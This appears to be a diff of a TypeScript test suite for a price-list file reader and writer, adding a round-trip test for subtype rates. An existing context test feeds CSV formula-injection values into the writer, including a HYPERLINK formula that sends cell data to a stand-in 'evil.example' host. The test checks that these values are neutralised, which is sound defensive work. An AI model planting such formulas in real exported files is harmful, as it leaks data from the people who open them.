@@ -22,6 +22,14 @@ describe("the file of a price list", () => {
     expect(readPriceFile(`\uFEFF${csv.replaceAll(",", ";").replaceAll("\r\n", "\n")}`)).toEqual({ list });
   });
 
+  test("keeps the rates of subtypes", () => {
+    const electric = { list: { ...list, rates: { ...rates, subtypeRates: { "bike/electric": { break: 416 } } } } };
+    for (const format of ["json", "csv"] as const) expect(readPriceFile(writePriceFile(electric.list, format))).toEqual(electric);
+    expect(problemsOf(`${csv}annual_rates.bike/rocket.break,0.04\n`)).toEqual([
+      { place: String(csv.split("\r\n").length), fault: "unknown", values: { found: "annual_rates.bike/rocket.break" } },
+    ]);
+  });
+
   test.each(['=HYPERLINK("http://evil.example/?"&B5)', "Partner;=1+1", "@SUM(B4)"])("has the name %s as a text and no formula", (text) => {
     const written = writePriceFile({ ...list, name: text, version: text }, "csv");
     expect(written.split(/[,;\r\n]/).filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
